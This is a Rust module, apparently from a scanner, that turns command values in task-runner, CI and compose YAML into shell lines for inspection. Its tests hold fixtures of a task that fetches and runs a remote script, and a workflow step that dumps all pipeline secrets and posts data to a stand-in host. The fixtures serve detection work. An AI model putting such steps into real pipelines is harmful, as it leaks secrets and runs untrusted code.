//! YAML files whose values are commands a runner executes: task runners
//! (`Taskfile.yml` `cmds`), CI pipelines (GitHub Actions `run`, GitLab
//! `script`, `before_script`), compose `command`, hook managers
//! (`run`, `entry`). Read as the shell they amount to: each variable of
//! a `vars`/`env`/`variables` map an assignment, each command value a
//! command line, template references (`{{.NAME}}`, `{{ NAME }}`,
//! `${{ env.NAME }}`) as `${NAME}`. One line out per line in, each padded
//! to its length, so positions keep their places; everything else blank.

/// Keys whose value (a string, a block scalar or a list) is commands.
const COMMAND_KEYS: &[&str] = &[
    "run",
    "cmd",
    "cmds",
    "command",
    "commands",
    "script",
    "before_script",
    "after_script",
    "entry",
    "entrypoint",
    "exec",
    "pre",
    "post",
];
/// Keys whose map holds variables.
const VARIABLE_KEYS: &[&str] = &["vars", "env", "variables", "environment"];

/// What the lines under a key are.
#[derive(Clone, Copy, PartialEq)]
enum Section {
    Commands,
    Variables,
}

/// The shell a YAML text's command values amount to.
pub(crate) fn to_shell(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    // The innermost key whose value is being read: its indent and kind.
    let mut open: Option<(usize, Section)> = None;
    for line in text.split('\n') {
        let indent = line.len() - line.trim_start().len();
        let body = line.trim().trim_end_matches('\r');
        if open.is_some_and(|(at, _)| indent <= at && !body.is_empty()) {
            open = None;
        }
        let shell = if body.starts_with('#') || body.is_empty() {
            String::new()
        } else if let Some((at, section)) = open {
            inside(section, body).unwrap_or_else(|| {
                // A key of its own inside a list item opens its section.
                open = opens(item_body(body)).map(|s| (at.max(indent), s)).or(open);
                String::new()
            })
        } else {
            let (section, value) = key_value(item_body(body));
            if let Some(section) = section {
                // `- env:` opens at its key's column: a sibling key of the
                // same item (`  run:`) closes it.
                let column = indent + body.len() - item_body(body).len();
                open = Some((column, section));
            }
            value.map_or_else(String::new, |v| line_of(section, v))
        };
        let pad = line.len().saturating_sub(shell.len());
        // A continuation `\` stays last, so that it still joins the lines.
        let (code, cont) = match shell.strip_suffix('\\') {
            Some(code) => (code, "\\"),
            None => (shell.as_str(), ""),
        };
        out.push_str(code);
        out.extend(std::iter::repeat_n(' ', pad));
        out.push_str(cont);
        out.push('\n');
    }
    out.pop();
    out
}

/// A line inside a section: a command, or a `NAME: value` variable.
fn inside(section: Section, body: &str) -> Option<String> {
    match section {
        Section::Commands => {
            let item = item_body(body);
            if let (Some(_), Some(v)) = key_value(item) {
                return Some(commands(v));
            }
            if body.starts_with("- ") && item.contains(": ") && !quoted(item) {
                return None;
            }
            Some(commands(item))
        }
        Section::Variables => {
            let (name, value) = body.split_once(':')?;
            let name = name.trim().trim_matches(['"', '\'']);
            let plain =
                !name.is_empty() && name.chars().all(|c| c == '_' || c.is_ascii_alphanumeric());
            plain.then(|| format!("{name}=\"{}\"", templates(unquote(value.trim()))))
        }
    }
}

/// A line's key and its inline value: the section the key opens, if any.
fn key_value(body: &str) -> (Option<Section>, Option<&str>) {
    let Some((key, value)) = body.split_once(':') else {
        return (None, None);
    };
    let section = section_of(key.trim().trim_matches(['"', '\'']));
    let value = value.trim();
    let inline = !value.is_empty() && !matches!(value, "|" | ">" | "|-" | ">-" | "|+" | ">+");
    (section, (section.is_some() && inline).then_some(value))
}

fn opens(body: &str) -> Option<Section> {
    key_value(body).0
}

fn section_of(key: &str) -> Option<Section> {
    let key = key.to_ascii_lowercase();
    if COMMAND_KEYS.contains(&key.as_str()) {
        Some(Section::Commands)
    } else if VARIABLE_KEYS.contains(&key.as_str()) {
        Some(Section::Variables)
    } else {
        None
    }
}

/// An inline value as the line it stands for.
fn line_of(section: Option<Section>, value: &str) -> String {
    match section {
        Some(Section::Commands) => commands(value),
        _ => String::new(),
    }
}

/// A command value: unquoted, a `[a, b]` list joined, templates as `${N}`.
fn commands(value: &str) -> String {
    let v = unquote(value);
    let v = match v.strip_prefix('[').and_then(|x| x.strip_suffix(']')) {
        Some(list) => list
            .split(',')
            .map(|w| unquote(w.trim()))
            .collect::<Vec<_>>()
            .join(" "),
        None => v.to_owned(),
    };
    templates(&v)
}

fn item_body(body: &str) -> &str {
    body.strip_prefix("- ").unwrap_or(body).trim_start()
}

fn quoted(s: &str) -> bool {
    s.starts_with(['"', '\''])
}

fn unquote(v: &str) -> &str {
    let quoted =
        v.len() >= 2 && (v.starts_with('"') || v.starts_with('\'')) && v.ends_with(&v[..1]);
    if quoted { &v[1..v.len() - 1] } else { v }
}

/// `{{.NAME}}`, `{{ .NAME | default "x" }}`, `{{NAME}}`, `${{ env.NAME }}`
/// as `${NAME}`.
fn templates(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(i) = rest.find("{{") {
        let dollar = i > 0 && rest.as_bytes()[i - 1] == b'$';
        out.push_str(&rest[..if dollar { i - 1 } else { i }]);
        let after = &rest[i + 2..];
        let Some(end) = after.find("}}") else {
            out.push_str(&rest[i..]);
            return out;
        };
        let inner = after[..end].split('|').next().unwrap_or("").trim();
        if whole_secrets_context(inner) {
            // Every secret of the pipeline at once, as `env` prints them.
            out.push_str("$(env)");
        } else {
            let name = inner.rsplit('.').next().unwrap_or(inner).trim();
            out.push_str(&format!("${{{name}}}"));
        }
        rest = &after[end + 2..];
    }
    out.push_str(rest);
    out
}

/// `secrets` or `toJSON(secrets)` as a whole (GitHub Actions): every
/// secret the workflow has, not one named for its use.
fn whole_secrets_context(expr: &str) -> bool {
    let e: String = expr.chars().filter(|c| !c.is_whitespace()).collect();
    let e = e.to_ascii_lowercase();
    e == "secrets" || e == "tojson(secrets)"
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kept(text: &str) -> Vec<String> {
        to_shell(text)
            .lines()
            .map(str::trim)
            .filter(|l| !l.is_empty())
            .map(str::to_owned)
            .collect()
    }

    #[test]
    fn task_runner_variables_and_commands_read_as_shell() {
        let yml = "version: '3'\nvars:\n  HOST: '198.51.100.87'\n  TMP: '{{.TASK_TEMP_DIR | default \"/tmp\"}}/h'\n\
                   tasks:\n  get:\n    cmds:\n      - 'curl -fsSL http://{{.HOST}}/x -o {{.TMP}}'\n      - task: init\n\
                   \n  init:\n    cmds:\n      - sh {{.TMP}}\n";
        assert_eq!(
            kept(yml),
            [
                "HOST=\"198.51.100.87\"",
                "TMP=\"${TASK_TEMP_DIR}/h\"",
                "curl -fsSL http://${HOST}/x -o ${TMP}",
                "sh ${TMP}"
            ]
        );
        assert_eq!(to_shell(yml).len(), yml.len());
    }

    #[test]
    fn the_whole_secrets_context_is_every_secret_and_continuations_join() {
        let yml = "jobs:\n  a:\n    steps:\n      - env:\n          SNAP: ${{ toJSON(secrets) }}\n          TOKEN: ${{ secrets.NPM_TOKEN }}\n        run: |\n          curl -s https://h.example.net/x \\\n            -d @snap.txt\n";
        let lines = kept(yml);
        assert_eq!(lines[..2], ["SNAP=\"$(env)\"", "TOKEN=\"${NPM_TOKEN}\""]);
        assert!(lines[2].starts_with("curl -s https://h.example.net/x "));
        assert!(lines[2].ends_with(" \\"), "{:?}", lines[2]);
        assert_eq!(lines[3], "-d @snap.txt");
    }

    #[test]
    fn ci_run_blocks_and_inline_commands_are_kept_and_settings_are_not() {
        let yml = "jobs:\n  b:\n    runs-on: ubuntu-latest\n    env:\n      URL: https://x.example\n\
                   \x20   steps:\n      - uses: actions/checkout@v4\n      - run: |\n          curl -so t.sh ${{ env.URL }}/t.sh\n          bash t.sh\n\
                   \x20     - name: test\n        run: make test\n";
        assert_eq!(
            kept(yml),
            [
                "URL=\"https://x.example\"",
                "curl -so t.sh ${URL}/t.sh",
                "bash t.sh",
                "make test"
            ]
        );
    }
}
